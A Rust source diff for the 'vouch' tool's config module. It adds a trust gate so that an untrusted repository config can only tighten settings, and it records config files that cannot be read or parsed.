@@ -4,11 +4,80 @@
 //! PURE: this module parses text it is handed. Reading the files and the
 //! trust store is `context.rs`'s job.
 //!
-//! Precedence, highest first: flags > `VOUCH_*` environment > the
-//! repository's `.vouch.toml` > the user's `config.toml` > defaults. A
-//! repository file is untrusted: it may set policy but not programs to run
-//! (`[verifiers]`, `notify_command`) or where files are written (`[log]`),
-//! unless `vouch trust` was run for its exact content.
+//! # Precedence
+//!
+//! Highest first: flags > `VOUCH_*` environment > the repository's
+//! `.vouch.toml` > the user's `config.toml` > built-in defaults.
+//!
+//! # One trust rule, for every door
+//!
+//! A repository's `.vouch.toml` is written by whoever committed it: a
+//! stranger's cloned repository, or an agent with a shell. Until a person
+//! runs `vouch trust` for its exact content, it may only make the guard
+//! stricter. Whatever would lower the guard, run a program, send data or
+//! write a file is ignored, and the run says so in one line naming every
+//! ignored key and how to trust the file. Restating the value in force is
+//! not lowering it and draws no line.
+//!
+//! A file that cannot be read or parsed, or holds an invalid value, is
+//! ignored as a whole, with the error and its line, on every door alike:
+//! a broken repository file leaves the user config and the defaults; a
+//! broken user config leaves the defaults (and the repository file, under
+//! the same trust rule). [`Config::broken`] holds the errors for
+//! `vouch doctor`, which exits non-zero while there are any.
+//!
+//! What each setting may do, by who writes it ("any": any value; a direction:
+//! only a value at least that strict; "no": ignored). The user config and a
+//! trusted repository file may set any value (a repository never an API
+//! key); the table's column is the untrusted repository file.
+//! `tests::every_setting_has_a_decision` checks that every key the file
+//! format accepts is listed here, and `tests::who_may_set_what` checks each
+//! row.
+//!
+//! | setting | untrusted repository | why |
+//! |---|---|---|
+//! | `mode` | `enforce` only | `observe` turns every door off |
+//! | `strict` | `true` only | `false` lets a hook with a missing binary allow |
+//! | `verify_standard` | `true` only | more is verified |
+//! | `log_all` | `true` only | more is recorded |
+//! | `notify_command` | no | runs a program |
+//! | `protected.branches`, `protected.release_tags` | added to the lower layers' lists | a list that replaces could drop `main` |
+//! | `protected.remote_head` | `true` only | more is protected |
+//! | `thresholds.mass_ref_changes` | lower only | fewer changes already count as mass |
+//! | `tiers.*` | higher only | a lower tier is verified less |
+//! | `on_unavailable.*` | stricter only (`allow` < `ask` < `block`) | `allow` lets an unverified operation through |
+//! | `verifiers.*` | no | runs programs; turning one off or non-blocking lowers |
+//! | `log.path` | no | writes where the file says; can hide the record |
+//! | `log.max_bytes` | higher only | a smaller log keeps fewer records |
+//! | `ai.enabled` | `true` only | off means no verdict |
+//! | `ai.order` | no | chooses who receives the operation's data |
+//! | `ai.timeout_secs`, `ai.connect_timeout_secs` | no | shorter turns verdicts into "unavailable"; longer only delays |
+//! | `ai.cache_secs` | lower only | a longer cache reuses an old verdict |
+//! | `ai.max_output_tokens`, `ai.temperature` | no | a budget that cuts the verdict short makes it unreadable; the user's money |
+//! | `providers.*` | no | endpoints, models and keys: where data is sent |
+//! | `prices.*` | no | the user's cost figures |
+//! | `commit.migrations`, `credentials`, `ci`, `infrastructure`, `manifests` | added to the lower layers' lists | more paths are watched |
+//! | `commit.migration_exceptions`, `credential_exceptions`, `generated` | narrowed only (patterns already in force) | an exception is a path left unwatched |
+//! | `commit.bulk_*`, `commit.large_*` | lower only | a lower threshold flags more |
+//! | `commit.tiers.*` | higher only | as `tiers.*` |
+//! | `[[rules]]` | any (added) | a rule only raises a command's tier |
+//! | `agent.budget_secs` | no | shorter leaves high-tier commands unverified; longer passes the agent's own hook timeout, and the agent then goes ahead |
+//!
+//! # The environment
+//!
+//! `VOUCH_*` variables belong to whoever runs the command: the person, a
+//! script, or an agent that writes them inline (the agent door judges an
+//! inline `VOUCH_*` assignment as a bypass, SPEC 2.4). In the config, only
+//! two raise the guard and neither can lower it: `VOUCH_VERIFY=1`
+//! (`verify_standard`) and `VOUCH_STRICT=1` (`strict`); `0` leaves the files'
+//! value. `VOUCH_LOG` (where the record is written) and `VOUCH_CONFIG`
+//! (which user config is read, `context.rs`) can lower it, as the user's own
+//! settings can: they stand in for the user, above the repository file, as
+//! SPEC 3.2 orders. Outside the config, `VOUCH_SKIP` skips one operation's
+//! verification with a logged reason, `VOUCH_HEADLESS` never prompts, and
+//! `VOUCH_PRIMARY` names the proposer (so the judge comes from another
+//! provider); `VOUCH_NESTED` counts only while the vouch it names is an
+//! ancestor.
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -52,8 +121,8 @@ pub enum Mode {
     Observe,
 }
 
-/// What to do when no verdict can be had.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, serde::Serialize)]
+/// What to do when no verdict can be had, from the weakest to the strictest.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize, serde::Serialize)]
 #[serde(rename_all = "lowercase")]
 pub enum OnUnavailable {
     /// Allow, with a warning, and log the skip.
@@ -476,8 +545,12 @@ pub struct Config {
     pub log_path: Option<PathBuf>,
     /// Rotate the audit log past this size.
     pub log_max_bytes: u64,
-    /// Settings that were ignored, and why (untrusted repository keys).
+    /// What every run says about the config, one line each: the keys an
+    /// untrusted repository file could not set, a file that was ignored.
     pub warnings: Vec<String>,
+    /// Files ignored because they cannot be used (unreadable, unparsable,
+    /// an invalid value), with the error.
+    pub broken: Vec<ConfigError>,
     /// The AI verifier.
     pub ai: AiConfig,
     /// `[providers.NAME]` tables.
@@ -527,6 +600,11 @@ impl Globs {
     /// True when a glob matches `path`.
     pub fn is_match(&self, path: impl AsRef<Path>) -> bool {
         self.set().is_match(path)
+    }
+
+    /// The globs as written.
+    pub fn patterns(&self) -> Vec<String> {
+        self.globs.iter().map(|g| g.glob().to_owned()).collect()
     }
 
     /// The indexes of the globs that match `path`.
@@ -593,6 +671,7 @@ impl Default for Config {
             log_path: None,
             log_max_bytes: DEFAULT_LOG_MAX_BYTES,
             warnings: Vec::new(),
+            broken: Vec::new(),
             ai: AiConfig::default(),
             providers: BTreeMap::new(),
             prices: default_prices(),
@@ -752,8 +831,16 @@ struct RawLog {
 }
 
 /// A config file that could not be used.
-#[derive(Debug, thiserror::Error)]
+#[derive(Debug, Clone, thiserror::Error)]
 pub enum ConfigError {
+    /// The file exists but cannot be read.
+    #[error("cannot read config `{path}`: {message}")]
+    Unreadable {
+        /// The file.
+        path: PathBuf,
+        /// The system's reason.
+        message: String,
+    },
     /// The file is not valid, with where and what is accepted.
     #[error("invalid config `{path}`, line {line}{key}: {message}", key = key.as_ref().map(|k| format!(", key `{k}`")).unwrap_or_default())]
     Invalid {
@@ -775,6 +862,26 @@ pub struct ConfigFile {
     pub path: PathBuf,
     /// Its content.
     pub text: String,
+}
+
+impl ConfigError {
+    /// The file at fault.
+    pub fn path(&self) -> &Path {
+        match self {
+            Self::Unreadable { path, .. } | Self::Invalid { path, .. } => path,
+        }
+    }
+}
+
+/// Who wrote a config file, which decides what it may set (SPEC 3.2).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Source {
+    /// The user's own config: anything.
+    User,
+    /// A repository file the user trusted with `vouch trust`: anything but API keys.
+    TrustedRepo,
+    /// A repository file not trusted: only what makes the guard stricter.
+    UntrustedRepo,
 }
 
 /// The inputs of [`Config::resolve`].
@@ -840,7 +947,7 @@ fn parse_raw(file: &ConfigFile) -> Result<RawConfig, ConfigError> {
     })
 }
 
-fn tier_layer(into: &mut TierTable, raw: RawTiers) {
+fn tier_layer(into: &mut TierTable, raw: RawTiers, gate: &mut Gate) {
     let RawTiers {
         force_push_protected,
         force_push_unseen,
@@ -859,41 +966,145 @@ fn tier_layer(into: &mut TierTable, raw: RawTiers) {
         stash_drop,
     } = raw;
     let pairs = [
-        (&mut into.force_push_protected, force_push_protected),
-        (&mut into.force_push_unseen, force_push_unseen),
-        (&mut into.force_push, force_push),
-        (&mut into.delete_protected, delete_protected),
-        (&mut into.delete_branch, delete_branch),
-        (&mut into.tag_move, tag_move),
-        (&mut into.release_tag_move, release_tag_move),
-        (&mut into.mass_ref_changes, mass_ref_changes),
-        (&mut into.push_protected, push_protected),
-        (&mut into.local_rewind, local_rewind),
-        (&mut into.local_rewind_reachable, local_rewind_reachable),
-        (&mut into.local_rewrite, local_rewrite),
-        (&mut into.local_delete, local_delete),
-        (&mut into.local_tag, local_tag),
-        (&mut into.stash_drop, stash_drop),
+        (
+            "force_push_protected",
+            &mut into.force_push_protected,
+            force_push_protected,
+        ),
+        (
+            "force_push_unseen",
+            &mut into.force_push_unseen,
+            force_push_unseen,
+        ),
+        ("force_push", &mut into.force_push, force_push),
+        (
+            "delete_protected",
+            &mut into.delete_protected,
+            delete_protected,
+        ),
+        ("delete_branch", &mut into.delete_branch, delete_branch),
+        ("tag_move", &mut into.tag_move, tag_move),
+        (
+            "release_tag_move",
+            &mut into.release_tag_move,
+            release_tag_move,
+        ),
+        (
+            "mass_ref_changes",
+            &mut into.mass_ref_changes,
+            mass_ref_changes,
+        ),
+        ("push_protected", &mut into.push_protected, push_protected),
+        ("local_rewind", &mut into.local_rewind, local_rewind),
+        (
+            "local_rewind_reachable",
+            &mut into.local_rewind_reachable,
+            local_rewind_reachable,
+        ),
+        ("local_rewrite", &mut into.local_rewrite, local_rewrite),
+        ("local_delete", &mut into.local_delete, local_delete),
+        ("local_tag", &mut into.local_tag, local_tag),
+        ("stash_drop", &mut into.stash_drop, stash_drop),
     ];
-    for (slot, value) in pairs {
-        if let Some(v) = value {
+    for (key, slot, value) in pairs {
+        if let Some(v) = value
+            && gate.allows(&format!("tiers.{key}"), v, v >= *slot)
+        {
             *slot = v;
         }
     }
 }
 
+/// The keys an untrusted file could not set, for the one line that says so.
+struct Gate {
+    /// Everything may be set (the user config, a trusted repository file).
+    trusted: bool,
+    /// What was ignored, as `key = value` or `[table]`.
+    ignored: Vec<String>,
+}
+
+impl Gate {
+    /// True when the value may be applied: the file is trusted, or the
+    /// value is at least as strict as the one in force (`stricter`).
+    /// Otherwise the key is noted as ignored.
+    fn allows(&mut self, key: &str, value: impl serde::Serialize, stricter: bool) -> bool {
+        if self.trusted || stricter {
+            return true;
+        }
+        let shown = serde_json::to_string(&value).unwrap_or_default();
+        self.ignored.push(format!("`{key} = {shown}`"));
+        false
+    }
+
+    /// A table or key an untrusted file may not set at all.
+    fn only_trusted(&mut self, what: &str) -> bool {
+        if !self.trusted {
+            self.ignored.push(format!("`{what}`"));
+        }
+        self.trusted
+    }
+
+    /// A list of watched patterns: an untrusted file adds to the patterns
+    /// in force and never removes one.
+    fn watched(&mut self, key: &str, current: Vec<String>, new: Vec<String>) -> Vec<String> {
+        if self.trusted {
+            return new;
+        }
+        if current.iter().any(|p| !new.contains(p)) {
+            self.ignored.push(format!(
+                "`{key}` as a replacement (its patterns were added to those in force)"
+            ));
+        }
+        let mut all = current;
+        for p in new {
+            if !all.contains(&p) {
+                all.push(p);
+            }
+        }
+        all
+    }
+
+    /// A list of exceptions: an untrusted file may only drop some of the
+    /// patterns in force, never add one.
+    fn exceptions(&mut self, key: &str, current: &[String], new: Vec<String>) -> Vec<String> {
+        if self.trusted {
+            return new;
+        }
+        let (kept, added): (Vec<String>, Vec<String>) =
+            new.into_iter().partition(|p| current.contains(p));
+        if !added.is_empty() {
+            self.ignored.push(format!(
+                "`{key}` additions {}",
+                added
+                    .iter()
+                    .map(|p| format!("`{p}`"))
+                    .collect::<Vec<_>>()
+                    .join(" ")
+            ));
+        }
+        kept
+    }
+}
+
 impl Config {
-    /// Builds the config in force from the files and the environment.
-    pub fn resolve(inputs: &ConfigInputs, env: &dyn Env) -> Result<Self, ConfigError> {
+    /// Builds the config in force from the files and the environment. A
+    /// file that cannot be used is left out, noted in [`Config::broken`]
+    /// and [`Config::warnings`]; this never fails.
+    pub fn resolve(inputs: &ConfigInputs, env: &dyn Env) -> Self {
         let mut config = Self::default();
         if let Some(file) = &inputs.user {
-            let raw = parse_raw(file)?;
-            config.layer(raw, file, true, true)?;
+            config.apply(file, Source::User);
         }
         if let Some((file, trusted)) = &inputs.repo {
-            let raw = parse_raw(file)?;
-            config.layer(raw, file, *trusted, false)?;
+            let source = if *trusted {
+                Source::TrustedRepo
+            } else {
+                Source::UntrustedRepo
+            };
+            config.apply(file, source);
         }
+        // The environment belongs to whoever runs the command: these two
+        // only raise the guard (module doc, "The environment").
         if env.flag(vars::VOUCH_VERIFY) {
             config.verify_standard = true;
         }
@@ -903,19 +1114,53 @@ impl Config {
         if let Some(path) = env.var_os(vars::VOUCH_LOG).filter(|p| !p.is_empty()) {
             config.log_path = Some(PathBuf::from(path));
         }
-        Ok(config)
+        config
     }
 
-    /// Applies one file over what is there. `may_run` is false for an
-    /// untrusted repository file: its program and path settings are dropped
-    /// with a warning.
+    /// Applies one file over what is there, all of it or nothing.
+    fn apply(&mut self, file: &ConfigFile, source: Source) {
+        let layered = parse_raw(file).and_then(|raw| {
+            let mut next = self.clone();
+            let ignored = next.layer(raw, file, source)?;
+            Ok((next, ignored))
+        });
+        match layered {
+            Ok((next, ignored)) => {
+                *self = next;
+                if !ignored.is_empty() {
+                    self.warnings.push(format!(
+                        "ignored in `{}`, which is not trusted: {}. A repository's file may only make the guard stricter until a person reads it and runs `vouch trust` in this repository at a terminal",
+                        file.path.display(),
+                        ignored.join(", ")
+                    ));
+                }
+            }
+            Err(e) => self.ignore_broken(e, source),
+        }
+    }
+
+    /// Notes a file that cannot be used: it is left out, and every run says so.
+    pub fn ignore_broken(&mut self, error: ConfigError, source: Source) {
+        let then = match source {
+            Source::User => {
+                "it is ignored, and vouch judges with its built-in defaults until it is fixed (`vouch doctor`)"
+            }
+            Source::TrustedRepo | Source::UntrustedRepo => {
+                "it is ignored: ordinary work goes on, and risky operations are judged by the user config and the defaults"
+            }
+        };
+        self.warnings.push(format!("{error}; {then}"));
+        self.broken.push(error);
+    }
+
+    /// Applies one parsed file over what is there; returns what an untrusted
+    /// file could not set.
     fn layer(
         &mut self,
         raw: RawConfig,
         file: &ConfigFile,
-        may_run: bool,
-        user_file: bool,
-    ) -> Result<(), ConfigError> {
+        source: Source,
+    ) -> Result<Vec<String>, ConfigError> {
         let invalid = |table: &str, key: &str, message: String| ConfigError::Invalid {
             path: file.path.clone(),
             line: locate(&file.text, table, key),
@@ -926,11 +1171,9 @@ impl Config {
             }),
             message,
         };
-        let untrusted = |what: &str| {
-            format!(
-                "ignored {what} in `{}`: a repository config may set programs and paths only after `vouch trust` (run it in this repository after reading the file)",
-                file.path.display()
-            )
+        let mut gate = Gate {
+            trusted: source != Source::UntrustedRepo,
+            ignored: Vec::new(),
         };
         let RawConfig {
             strict,
@@ -952,12 +1195,18 @@ impl Config {
             agent,
         } = raw;
         if let Some(rules) = rules {
-            // Rules only raise a command's tier, so a repository may add them.
+            // Rules only raise a command's tier, so any file may add them.
             crate::shell::Rules::with_user(&rules)
                 .map_err(|e| invalid("rules", "pattern", e.to_string()))?;
             self.rules.extend(rules);
         }
-        if let Some(budget) = agent.and_then(|a| a.budget_secs) {
+        if let Some(budget) = agent.and_then(|a| a.budget_secs)
+            && gate.allows(
+                "agent.budget_secs",
+                budget,
+                budget == self.agent_budget_secs,
+            )
+        {
             if budget == 0 {
                 return Err(invalid(
                     "agent",
@@ -967,28 +1216,39 @@ impl Config {
             }
             self.agent_budget_secs = budget;
         }
-        if let Some(v) = strict {
+        if let Some(v) = strict
+            && gate.allows("strict", v, v >= self.strict)
+        {
             self.strict = v;
         }
-        if let Some(v) = mode {
+        if let Some(v) = mode
+            && gate.allows("mode", v, v == Mode::Enforce || self.mode == Mode::Observe)
+        {
             self.mode = v;
         }
-        if let Some(v) = verify_standard {
+        if let Some(v) = verify_standard
+            && gate.allows("verify_standard", v, v >= self.verify_standard)
+        {
             self.verify_standard = v;
         }
-        if let Some(v) = log_all {
+        if let Some(v) = log_all
+            && gate.allows("log_all", v, v >= self.log_all)
+        {
             self.log_all = v;
         }
         if let Some(cmd) = notify_command {
-            if may_run {
-                let words = split_command(&cmd).map_err(|m| invalid("", "notify_command", m))?;
+            let words = split_command(&cmd).map_err(|m| invalid("", "notify_command", m))?;
+            if self.notify_command.as_ref() == Some(&words) || gate.only_trusted("notify_command") {
                 self.notify_command = Some(words);
-            } else {
-                self.warnings.push(untrusted("`notify_command`"));
             }
         }
         if let Some(p) = protected {
             if let Some(branches) = p.branches {
+                let branches = gate.watched(
+                    "protected.branches",
+                    self.policy.protected_patterns.clone(),
+                    branches,
+                );
                 self.policy.protected = compile_globs(&branches).map_err(|(i, m)| {
                     invalid(
                         "protected",
@@ -1001,10 +1261,17 @@ impl Config {
                 })?;
                 self.policy.protected_patterns = branches;
             }
-            if let Some(v) = p.remote_head {
+            if let Some(v) = p.remote_head
+                && gate.allows("protected.remote_head", v, v >= self.policy.remote_head)
+            {
                 self.policy.remote_head = v;
             }
             if let Some(tags) = p.release_tags {
+                let tags = gate.watched(
+                    "protected.release_tags",
+                    self.policy.release_tag_patterns.clone(),
+                    tags,
+                );
                 self.policy.release_tags = compile_globs(&tags).map_err(|(i, m)| {
                     invalid(
                         "protected",
@@ -1015,139 +1282,91 @@ impl Config {
                 self.policy.release_tag_patterns = tags;
             }
         }
-        if let Some(t) = thresholds.and_then(|t| t.mass_ref_changes) {
+        if let Some(t) = thresholds.and_then(|t| t.mass_ref_changes)
+            && gate.allows(
+                "thresholds.mass_ref_changes",
+                t,
+                t <= self.policy.mass_ref_changes,
+            )
+        {
             self.policy.mass_ref_changes = t;
         }
         if let Some(t) = tiers {
-            tier_layer(&mut self.policy.tiers, t);
+            tier_layer(&mut self.policy.tiers, t, &mut gate);
         }
         if let Some(o) = on_unavailable {
-            if let Some(v) = o.critical {
-                self.on_unavailable.critical = v;
-            }
-            if let Some(v) = o.high {
-                self.on_unavailable.high = v;
-            }
-            if let Some(v) = o.standard {
-                self.on_unavailable.standard = v;
+            for (key, value, slot) in [
+                ("critical", o.critical, &mut self.on_unavailable.critical),
+                ("high", o.high, &mut self.on_unavailable.high),
+                ("standard", o.standard, &mut self.on_unavailable.standard),
+            ] {
+                if let Some(v) = value
+                    && gate.allows(&format!("on_unavailable.{key}"), v, v >= *slot)
+                {
+                    *slot = v;
+                }
             }
         }
-        if let Some(verifiers) = verifiers {
-            if may_run {
-                for (name, v) in verifiers {
-                    let table = format!("verifiers.{name}");
-                    if !valid_verifier_name(&name) {
-                        return Err(invalid(
-                            "",
-                            &table,
-                            format!(
-                                "verifier name `{name}` may hold only letters, digits, `-` and `_`"
-                            ),
-                        ));
-                    }
-                    let command = match v.command {
-                        Some(c) => {
-                            Some(split_command(&c).map_err(|m| invalid(&table, "command", m))?)
-                        }
-                        None => None,
-                    };
-                    if v.timeout_secs == Some(0) {
-                        return Err(invalid(
-                            &table,
-                            "timeout_secs",
-                            "must be at least 1 (seconds)".into(),
-                        ));
-                    }
-                    if v.tiers.as_ref().is_some_and(|t| t.contains(&Tier::None)) {
-                        return Err(invalid(
-                            &table,
-                            "tiers",
-                            "tier `none` is never verified; accepted: `critical`, `high`, `standard`".into(),
-                        ));
-                    }
-                    let entry = self.verifiers.entry(name).or_insert(VerifierConfig {
-                        command: None,
-                        blocking: true,
-                        timeout_secs: DEFAULT_VERIFIER_TIMEOUT_SECS,
-                        tiers: None,
-                        enabled: true,
-                        source: file.path.display().to_string(),
-                    });
-                    if command.is_some() {
-                        entry.command = command;
-                    }
-                    if let Some(b) = v.blocking {
-                        entry.blocking = b;
-                    }
-                    if let Some(t) = v.timeout_secs {
-                        entry.timeout_secs = t;
-                    }
-                    if v.tiers.is_some() {
-                        entry.tiers = v.tiers;
-                    }
-                    if let Some(e) = v.enabled {
-                        entry.enabled = e;
-                    }
-                    entry.source = file.path.display().to_string();
-                }
-            } else {
-                self.warnings.push(untrusted("`[verifiers]`"));
-            }
+        if let Some(verifiers) = verifiers
+            && gate.only_trusted("[verifiers]")
+        {
+            self.layer_verifiers(verifiers, file, &invalid)?;
         }
         if let Some(ai) = ai {
-            self.layer_ai(ai)
+            self.layer_ai(ai, &mut gate)
                 .map_err(|(key, m)| invalid("ai", key, m))?;
         }
-        if let Some(providers) = providers {
-            if may_run {
-                for (name, p) in providers {
-                    if p.api_key.is_some() && !user_file {
-                        return Err(invalid(
-                            &format!("providers.{name}"),
-                            "api_key",
-                            "API keys are read from the environment or the user config, never from a repository file; remove it and set the key's variable".into(),
-                        ));
-                    }
-                    let entry = self.providers.entry(name).or_default();
-                    let RawProvider {
-                        kind,
-                        family,
-                        model,
-                        strong_model,
-                        base_url,
-                        api_key_env,
-                        api_key,
-                    } = p;
-                    entry.kind = kind.or(entry.kind);
-                    entry.family = family.or(entry.family.take());
-                    entry.model = model.or(entry.model.take());
-                    entry.strong_model = strong_model.or(entry.strong_model.take());
-                    entry.base_url = base_url.or(entry.base_url.take());
-                    entry.api_key_env = api_key_env.or(entry.api_key_env.take());
-                    if let Some(k) = api_key {
-                        entry.api_key = Some(crate::provider::Secret::new(k));
-                    }
+        if let Some(providers) = providers
+            && gate.only_trusted("[providers]")
+        {
+            for (name, p) in providers {
+                if p.api_key.is_some() && source != Source::User {
+                    return Err(invalid(
+                        &format!("providers.{name}"),
+                        "api_key",
+                        "API keys are read from the environment or the user config, never from a repository file; remove it and set the key's variable".into(),
+                    ));
                 }
-            } else {
-                self.warnings.push(untrusted("`[providers]`"));
+                let entry = self.providers.entry(name).or_default();
+                let RawProvider {
+                    kind,
+                    family,
+                    model,
+                    strong_model,
+                    base_url,
+                    api_key_env,
+                    api_key,
+                } = p;
+                entry.kind = kind.or(entry.kind);
+                entry.family = family.or(entry.family.take());
+                entry.model = model.or(entry.model.take());
+                entry.strong_model = strong_model.or(entry.strong_model.take());
+                entry.base_url = base_url.or(entry.base_url.take());
+                entry.api_key_env = api_key_env.or(entry.api_key_env.take());
+                if let Some(k) = api_key {
+                    entry.api_key = Some(crate::provider::Secret::new(k));
+                }
             }
         }
         if let Some(prices) = prices {
-            self.prices.extend(prices);
+            let same = prices.iter().all(|(m, p)| self.prices.get(m) == Some(p));
+            if same || gate.only_trusted("[prices]") {
+                self.prices.extend(prices);
+            }
         }
         if let Some(c) = commit {
-            self.layer_commit(c)
+            self.layer_commit(c, &mut gate)
                 .map_err(|(key, m)| invalid("commit", key, m))?;
         }
         if let Some(log) = log {
-            if let Some(path) = log.path {
-                if may_run {
-                    self.log_path = Some(path);
-                } else {
-                    self.warnings.push(untrusted("`log.path`"));
-                }
+            if let Some(path) = log.path
+                && (self.log_path.as_ref() == Some(&path) || gate.only_trusted("log.path"))
+            {
+                self.log_path = Some(path);
             }
-            if let Some(max) = log.max_bytes {
+            if let Some(max) = log.max_bytes
+                && gate.allows("log.max_bytes", max, max >= self.log_max_bytes)
+            {
                 if max < 4096 {
                     return Err(invalid(
                         "log",
@@ -1158,27 +1377,81 @@ impl Config {
                 self.log_max_bytes = max;
             }
         }
+        Ok(gate.ignored)
+    }
+
+    fn layer_verifiers(
+        &mut self,
+        verifiers: BTreeMap<String, RawVerifier>,
+        file: &ConfigFile,
+        invalid: &dyn Fn(&str, &str, String) -> ConfigError,
+    ) -> Result<(), ConfigError> {
+        for (name, v) in verifiers {
+            let table = format!("verifiers.{name}");
+            if !valid_verifier_name(&name) {
+                return Err(invalid(
+                    "",
+                    &table,
+                    format!("verifier name `{name}` may hold only letters, digits, `-` and `_`"),
+                ));
+            }
+            let command = match v.command {
+                Some(c) => Some(split_command(&c).map_err(|m| invalid(&table, "command", m))?),
+                None => None,
+            };
+            if v.timeout_secs == Some(0) {
+                return Err(invalid(
+                    &table,
+                    "timeout_secs",
+                    "must be at least 1 (seconds)".into(),
+                ));
+            }
+            if v.tiers.as_ref().is_some_and(|t| t.contains(&Tier::None)) {
+                return Err(invalid(
+                    &table,
+                    "tiers",
+                    "tier `none` is never verified; accepted: `critical`, `high`, `standard`"
+                        .into(),
+                ));
+            }
+            let entry = self.verifiers.entry(name).or_insert(VerifierConfig {
+                command: None,
+                blocking: true,
+                timeout_secs: DEFAULT_VERIFIER_TIMEOUT_SECS,
+                tiers: None,
+                enabled: true,
+                source: file.path.display().to_string(),
+            });
+            if command.is_some() {
+                entry.command = command;
+            }
+            if let Some(b) = v.blocking {
+                entry.blocking = b;
+            }
+            if let Some(t) = v.timeout_secs {
+                entry.timeout_secs = t;
+            }
+            if v.tiers.is_some() {
+                entry.tiers = v.tiers;
+            }
+            if let Some(e) = v.enabled {
+                entry.enabled = e;
+            }
+            entry.source = file.path.display().to_string();
+        }
         Ok(())
     }
-}
 
-impl Config {
-    fn layer_commit(&mut self, raw: RawCommit) -> Result<(), (&'static str, String)> {
+    fn layer_commit(
+        &mut self,
+        raw: RawCommit,
+        gate: &mut Gate,
+    ) -> Result<(), (&'static str, String)> {
         let rules = &mut self.commit;
-        let globs = [
+        // Watched paths: an untrusted file adds to them.
+        let watched = [
             ("migrations", raw.migrations, &mut rules.migrations),
-            (
-                "migration_exceptions",
-                raw.migration_exceptions,
-                &mut rules.migration_exceptions,
-            ),
-            ("generated", raw.generated, &mut rules.generated),
             ("credentials", raw.credentials, &mut rules.credentials),
-            (
-                "credential_exceptions",
-                raw.credential_exceptions,
-                &mut rules.credential_exceptions,
-            ),
             ("ci", raw.ci, &mut rules.ci),
             (
                 "infrastructure",
@@ -1187,23 +1460,50 @@ impl Config {
             ),
             ("manifests", raw.manifests, &mut rules.manifests),
         ];
-        for (key, patterns, slot) in globs {
+        for (key, patterns, slot) in watched {
             if let Some(p) = patterns {
-                *slot = compile_globs(&p).map_err(|(i, m)| {
-                    (
-                        key,
-                        format!("bad glob `{}`: {m}", p.get(i).map_or("", String::as_str)),
-                    )
-                })?;
+                let p = gate.watched(&format!("commit.{key}"), slot.patterns(), p);
+                *slot = compile_commit_globs(key, &p)?;
             }
         }
-        for (value, slot) in [
-            (raw.bulk_deleted_files, &mut rules.bulk_deleted_files),
-            (raw.bulk_deleted_lines, &mut rules.bulk_deleted_lines),
-            (raw.large_files, &mut rules.large_files),
-            (raw.large_lines, &mut rules.large_lines),
+        // Paths left unwatched: an untrusted file may only narrow them.
+        let exceptions = [
+            (
+                "migration_exceptions",
+                raw.migration_exceptions,
+                &mut rules.migration_exceptions,
+            ),
+            ("generated", raw.generated, &mut rules.generated),
+            (
+                "credential_exceptions",
+                raw.credential_exceptions,
+                &mut rules.credential_exceptions,
+            ),
+        ];
+        for (key, patterns, slot) in exceptions {
+            if let Some(p) = patterns {
+                let p = gate.exceptions(&format!("commit.{key}"), &slot.patterns(), p);
+                *slot = compile_commit_globs(key, &p)?;
+            }
+        }
+        // Thresholds: lower flags more.
+        for (key, value, slot) in [
+            (
+                "bulk_deleted_files",
+                raw.bulk_deleted_files,
+                &mut rules.bulk_deleted_files,
+            ),
+            (
+                "bulk_deleted_lines",
+                raw.bulk_deleted_lines,
+                &mut rules.bulk_deleted_lines,
+            ),
+            ("large_files", raw.large_files, &mut rules.large_files),
+            ("large_lines", raw.large_lines, &mut rules.large_lines),
         ] {
-            if let Some(v) = value {
+            if let Some(v) = value
+                && gate.allows(&format!("commit.{key}"), v, v <= *slot)
+            {
                 *slot = v;
             }
         }
@@ -1217,7 +1517,9 @@ impl Config {
                 ("dependency_major_bump", t.dependency_major_bump),
                 ("large_change", t.large_change),
             ] {
-                if let Some(v) = value {
+                if let Some(v) = value
+                    && gate.allows(&format!("commit.tiers.{name}"), v, v >= rules.tier(name))
+                {
                     rules.tiers.insert(name, v);
                 }
             }
@@ -1225,7 +1527,7 @@ impl Config {
         Ok(())
     }
 
-    fn layer_ai(&mut self, raw: RawAi) -> Result<(), (&'static str, String)> {
+    fn layer_ai(&mut self, raw: RawAi, gate: &mut Gate) -> Result<(), (&'static str, String)> {
         let RawAi {
             enabled,
             order,
@@ -1236,10 +1538,14 @@ impl Config {
             temperature,
         } = raw;
         let ai = &mut self.ai;
-        if let Some(v) = enabled {
+        if let Some(v) = enabled
+            && gate.allows("ai.enabled", v, v >= ai.enabled)
+        {
             ai.enabled = v;
         }
-        if let Some(v) = order {
+        if let Some(v) = order
+            && gate.allows("ai.order", &v, v == ai.order)
+        {
             ai.order = v;
         }
         for (key, value, slot) in [
@@ -1250,17 +1556,23 @@ impl Config {
                 &mut ai.connect_timeout_secs,
             ),
         ] {
-            if let Some(v) = value {
+            if let Some(v) = value
+                && gate.allows(&format!("ai.{key}"), v, v == *slot)
+            {
                 if v == 0 {
                     return Err((key, "must be at least 1 (seconds)".into()));
                 }
                 *slot = v;
             }
         }
-        if let Some(v) = cache_secs {
+        if let Some(v) = cache_secs
+            && gate.allows("ai.cache_secs", v, v <= ai.cache_secs)
+        {
             ai.cache_secs = v;
         }
-        if let Some(v) = max_output_tokens {
+        if let Some(v) = max_output_tokens
+            && gate.allows("ai.max_output_tokens", v, v == ai.max_output_tokens)
+        {
             if v < 64 {
                 return Err((
                     "max_output_tokens",
@@ -1269,7 +1581,9 @@ impl Config {
             }
             ai.max_output_tokens = v;
         }
-        if let Some(t) = temperature {
+        if let Some(t) = temperature
+            && gate.allows("ai.temperature", t, ai.temperature == Some(t))
+        {
             if !(0.0..=2.0).contains(&t) {
                 return Err(("temperature", "must be between 0 and 2".into()));
             }
@@ -1277,6 +1591,21 @@ impl Config {
         }
         Ok(())
     }
+}
+
+fn compile_commit_globs(
+    key: &'static str,
+    patterns: &[String],
+) -> Result<Globs, (&'static str, String)> {
+    compile_globs(patterns).map_err(|(i, m)| {
+        (
+            key,
+            format!(
+                "bad glob `{}`: {m}",
+                patterns.get(i).map_or("", String::as_str)
+            ),
+        )
+    })
 }
 
 fn valid_verifier_name(name: &str) -> bool {
@@ -1325,9 +1654,13 @@ mod tests {
     }
 
     fn err(inputs: &ConfigInputs) -> String {
+        let c = Config::resolve(inputs, &MapEnv::default());
+        assert_eq!(c.broken.len(), 1, "{:?}", c.warnings);
+        c.broken[0].to_string()
+    }
+
